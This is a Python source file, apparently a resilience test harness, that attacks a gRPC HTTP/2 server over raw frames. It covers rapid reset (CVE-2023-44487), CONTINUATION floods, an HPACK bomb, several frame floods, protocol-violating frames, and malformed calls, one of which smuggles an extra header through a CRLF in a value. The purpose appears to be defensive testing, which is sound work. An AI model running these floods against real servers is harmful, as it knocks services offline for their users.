# SPDX-License-Identifier: Apache-2.0
"""What a connection can do to an HTTP/2 server. Each attack takes a fresh connection and tells what it saw; the hub may end it at any time."""

import socket
import struct

import hpack
import raw_http2
from raw_http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS,
                       WINDOW_UPDATE, Ended, frame, grpc_message, settings)

SUBMIT_ITEMS = "/postgate.v1.ExchangeService/SubmitItems"
SUBMIT_ITEM = "/postgate.v1.ExchangeService/SubmitItem"
CANCEL = struct.pack(">I", 8)
# A flood that nobody takes off the wire any more has met its limit.
SECONDS_UNTIL_PUSHED_BACK = 3


def _flood(connection, pieces):
    """Sends without reading, until the hub ends the connection or takes no more."""
    connection.settimeout(SECONDS_UNTIL_PUSHED_BACK)
    sent = 0
    try:
        for piece in pieces:
            connection.send_bytes(piece)
            sent += 1
    except Ended:
        return "ended after %d writes" % sent
    except socket.timeout:
        return "no longer read after %d writes" % sent
    finally:
        connection.settimeout(raw_http2.SECONDS_TO_WAIT)
    return "all %d writes taken" % sent


def _drain(connection):
    """Reads what is there until the hub ends the connection or answers a ping of ours; GOAWAY's code, or none."""
    mark = b"are you?"
    try:
        connection.send(PING, 0, 0, mark)
        while True:
            taken = connection.read()
            if taken.type == PING and taken.flags & ACK and taken.payload == mark:
                return "still open"
    except Ended:
        return "GOAWAY %s" % connection.goaway if connection.goaway else "closed"
    except socket.timeout:
        return "no answer to a ping"


def _headers(connection, stream, more=(), flags=0):
    return frame(HEADERS, END_HEADERS | flags, stream, hpack.encode(connection.request_fields(SUBMIT_ITEMS, more)))


def rapid_reset(connection, count=2_000, at_once=100):
    """CVE-2023-44487: a call is opened and taken back before it is answered. gRPC 1.51 reads on while calls of before are not done with, some 20 kB each;
    so many stay below the bound on memory, and ten times as many do not (docs/reliability.md)."""
    def pieces():
        stream = 1
        for _ in range(count // at_once):
            piece = bytearray()
            for _ in range(at_once):
                piece += _headers(connection, stream) + frame(RST_STREAM, 0, stream, CANCEL)
                stream += 2
            yield bytes(piece)

    return "%s, then %s" % (_flood(connection, pieces()), _drain(connection))


def streams_beyond_the_limit(connection, count=2_000):
    seen = _flood(connection, (_headers(connection, 1 + 2 * i) for i in range(count)))
    refused = 0
    mark = b"all read"
    try:
        connection.send(PING, 0, 0, mark)
        while not ((taken := connection.read()).type == PING and taken.payload == mark):
            refused += taken.type == RST_STREAM and int.from_bytes(taken.payload, "big") == 7
    except Ended:
        return "%s, GOAWAY %s" % (seen, connection.goaway)
    return "%s, %d refused" % (seen, refused)


def ping_flood(connection, count=50_000):
    seen = _flood(connection, (frame(PING, 0, 0, b"12345678") * 500 for _ in range(count // 500)))
    return "%s, then %s" % (seen, _drain(connection))


def settings_flood(connection, count=200_000):
    one = frame(SETTINGS, 0, 0, settings(_4=65535, _1=4096))
    seen = _flood(connection, (one * 1000 for _ in range(count // 1000)))
    return "%s, then %s" % (seen, _drain(connection))


def settings_of_many_values(connection):
    seen = _flood(connection, (frame(SETTINGS, 0, 0, settings(_4=65535) * 2700) for _ in range(200)))
    return "%s, then %s" % (seen, _drain(connection))


def huge_headers(connection, size=1 << 20):
    """One field of a megabyte, in CONTINUATION frames as HTTP/2 allows."""
    block = hpack.encode(connection.request_fields(SUBMIT_ITEMS)) + hpack.literal("x-long", b"a" * size)
    pieces = [frame(HEADERS, 0, 1, block[:16384])]
    pieces += [frame(CONTINUATION, 0, 1, block[begin:begin + 16384]) for begin in range(16384, len(block), 16384)]
    pieces.append(frame(CONTINUATION, END_HEADERS, 1))
    return "%s, then %s" % (_flood(connection, pieces), _drain(connection))


def many_headers(connection, count=40_000):
    """As many small fields, none of them large."""
    field = b"".join(hpack.literal("x-%d" % i, "v") for i in range(100))
    pieces = [frame(HEADERS, 0, 1, hpack.encode(connection.request_fields(SUBMIT_ITEMS)))]
    pieces += [frame(CONTINUATION, 0, 1, field) for _ in range(count // 100)]
    pieces.append(frame(CONTINUATION, END_HEADERS, 1))
    return "%s, then %s" % (_flood(connection, pieces), _drain(connection))


def continuation_flood(connection, count=100_000):
    """CVE-2024-27316 and its kin: a block of headers that never ends."""
    field = frame(CONTINUATION, 0, 1, hpack.literal("x", "y"))
    pieces = [frame(HEADERS, 0, 1, hpack.encode(connection.request_fields(SUBMIT_ITEMS)))]
    pieces += [field * 500] * (count // 500)
    return "%s, then %s" % (_flood(connection, pieces), _drain(connection))


def empty_continuation_flood(connection, count=200_000):
    pieces = [frame(HEADERS, 0, 1, hpack.encode(connection.request_fields(SUBMIT_ITEMS)))]
    pieces += [frame(CONTINUATION, 0, 1) * 1000] * (count // 1000)
    return "%s, then %s" % (_flood(connection, pieces), _drain(connection))


def hpack_bomb(connection, references=12_000):
    """One large field in the table of the connection, then a byte for each time that it is said again."""
    name, value = b"x-large", b"a" * 3900
    first = hpack.encode(connection.request_fields(SUBMIT_ITEMS)) + b"\x40" + hpack.integer(len(name), 7) + name + hpack.integer(len(value), 7) + value
    seen = _flood(connection, [frame(HEADERS, END_HEADERS, 1, first)])
    bomb = hpack.encode(connection.request_fields(SUBMIT_ITEMS)) + b"\xbe" * references
    seen = _flood(connection, [frame(HEADERS, END_HEADERS, 3 + 2 * i, bomb) for i in range(20)])
    return "%s, then %s" % (seen, _drain(connection))


def hpack_table_of_all_sizes(connection):
    """Changes of the table's size, allowed and not."""
    block = b"".join(hpack.integer(size, 5, 0x20) for size in (0, 4096, 0, 1 << 30))
    seen = _flood(connection, [frame(HEADERS, END_HEADERS, 1, block + hpack.encode(connection.request_fields(SUBMIT_ITEMS)))])
    return "%s, then %s" % (seen, _drain(connection))


def empty_data_flood(connection, count=200_000):
    seen = _flood(connection, [_headers(connection, 1)] + [frame(DATA, 0, 1) * 1000] * (count // 1000))
    return "%s, then %s" % (seen, _drain(connection))


def one_byte_at_a_time(connection, opening):
    """A message in DATA frames of one byte."""
    pieces = [_headers(connection, 1)] + [frame(DATA, 0, 1, opening[i:i + 1]) for i in range(len(opening))]
    return "%s, then %s" % (_flood(connection, pieces), _drain(connection))


def priority_garbage(connection):
    pieces = [frame(PRIORITY, 0, stream, struct.pack(">IB", stream ^ 1, 255)) for stream in range(1, 20_001, 2)]
    pieces.append(frame(PRIORITY, 0, 1, struct.pack(">IB", 1, 0)))  # on itself
    return "%s, then %s" % (_flood(connection, [b"".join(pieces)]), _drain(connection))


def window_update_flood(connection, count=100_000):
    seen = _flood(connection, [frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000] * (count // 1000))
    return "%s, then %s" % (seen, _drain(connection))


def unknown_frames(connection, count=1_000):
    seen = _flood(connection, [frame(0xEE, 0xFF, i * 2 + 1, b"?" * 1000) for i in range(count)])
    return "%s, then %s" % (seen, _drain(connection))


# What no peer may send: the connection is to end. NAME, bytes of a fresh connection.
BREACHES = (
    ("PUSH_PROMISE of a client", lambda c: frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + hpack.encode(c.request_fields(SUBMIT_ITEMS)))),
    ("a frame of 16 MB", lambda c: b"\xff\xff\xff" + bytes((DATA, 0)) + struct.pack(">I", 1) + b"x" * 16384),
    ("SETTINGS of five bytes", lambda c: frame(SETTINGS, 0, 0, b"12345")),
    ("SETTINGS of a stream", lambda c: frame(SETTINGS, 0, 3)),
    ("an initial window of 4 GB", lambda c: frame(SETTINGS, 0, 0, settings(_4=(1 << 32) - 1))),
    ("a largest frame of one byte", lambda c: frame(SETTINGS, 0, 0, settings(_5=1))),
    ("PING of seven bytes", lambda c: frame(PING, 0, 0, b"1234567")),
    ("CONTINUATION of nothing", lambda c: frame(CONTINUATION, END_HEADERS, 1, b"")),
    ("DATA between HEADERS and CONTINUATION", lambda c: frame(HEADERS, 0, 1, hpack.encode(c.request_fields(SUBMIT_ITEMS))) + frame(DATA, 0, 1, b"x")),
    ("HEADERS that are no HPACK", lambda c: frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff")),
    ("HEADERS that name an entry that is not there", lambda c: frame(HEADERS, END_HEADERS, 1, b"\xfe")),
    ("HEADERS of a stream of the hub's side", lambda c: frame(HEADERS, END_HEADERS, 2, hpack.encode(c.request_fields(SUBMIT_ITEMS)))),
    ("RST_STREAM of three bytes", lambda c: frame(RST_STREAM, 0, 1, b"123")),
    ("WINDOW_UPDATE of nothing", lambda c: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))),
    ("more padding than there is", lambda c: frame(HEADERS, END_HEADERS | 8, 1, b"\xff" + hpack.encode(c.request_fields(SUBMIT_ITEMS)))),
    ("DATA of no stream", lambda c: frame(DATA, 0, 0, b"x")),
    ("GOAWAY of the client", lambda c: frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0))),
    ("a second preface", lambda c: raw_http2.PREFACE),
    ("HTTP/1.1", lambda c: b"GET / HTTP/1.1\r\nHost: hub\r\n\r\n"),
)


def breach(connection, content):
    return "%s, then %s" % (_flood(connection, [content]), _drain(connection))


# What is wrong with one call, and not with its connection. NAME, fields in the place of those of a good call.
BAD_CALLS = (
    ("no method", [(":scheme", "https"), (":path", SUBMIT_ITEM), (":authority", "hub"), ("te", "trailers"), ("content-type", "application/grpc")]),
    ("GET", [(":method", "GET"), (":scheme", "https"), (":path", SUBMIT_ITEM), (":authority", "hub"), ("te", "trailers"), ("content-type", "application/grpc")]),
    ("no path", [(":method", "POST"), (":scheme", "https"), (":authority", "hub"), ("te", "trailers"), ("content-type", "application/grpc")]),
    ("a bad scheme and much beside it", [(":method", "POST"), (":scheme", "z" * 3000), (":path", SUBMIT_ITEM), (":authority", "hub"), ("te", "x" * 3000),
                                        ("content-type", "application/grpc"), ("grpclb_client_stats", "?" * 3000)]),
    ("a path that is not there", [(":method", "POST"), (":scheme", "https"), (":path", "/postgate.v1.ExchangeService/../x\u00ff" * 20), (":authority", "hub"),
                                  ("te", "trailers"), ("content-type", "application/grpc")]),
    ("a timeout that is none", [(":method", "POST"), (":scheme", "https"), (":path", SUBMIT_ITEM), (":authority", "hub"), ("te", "trailers"),
                                ("content-type", "application/grpc"), ("grpc-timeout", "99999999999999999999H")]),
    ("base64 that is none", [(":method", "POST"), (":scheme", "https"), (":path", SUBMIT_ITEM), (":authority", "hub"), ("te", "trailers"),
                             ("content-type", "application/grpc"), ("x-bin", "*" * 500)]),
    ("a line break in a value", [(":method", "POST"), (":scheme", "https"), (":path", SUBMIT_ITEM), (":authority", "hub"), ("te", "trailers"),
                                 ("content-type", "application/grpc"), ("x", "a\r\nb: c\0")]),
    ("pseudo-fields twice and last", [("te", "trailers"), (":method", "POST"), (":method", "POST"), (":scheme", "https"), (":path", SUBMIT_ITEM),
                                      (":path", "/x"), (":authority", "hub"), ("content-type", "application/grpc")]),
)


def bad_call(connection, fields):
    connection.send(HEADERS, END_HEADERS, 1, hpack.encode(fields))
    connection.send(DATA, END_STREAM, 1, grpc_message(b""))
    mark = b"answered"
    answer = "no answer"
    try:
        connection.send(PING, 0, 0, mark)
        while True:
            taken = connection.read()
            if taken.type == HEADERS and taken.stream == 1:
                answer = "status %s, %s" % (taken.fields.get(":status"), taken.fields.get("grpc-status"))
            elif taken.type == RST_STREAM and taken.stream == 1:
                answer += ", %s" % raw_http2.ERRORS[int.from_bytes(taken.payload, "big")]
            elif taken.type == PING and taken.payload == mark and answer != "no answer":
                return answer
            elif taken.type == PING and taken.payload == mark:
                mark = mark[1:] + mark[:1]
                connection.send(PING, 0, 0, mark)
    except Ended:
        return "%s, GOAWAY %s" % (answer, connection.goaway)
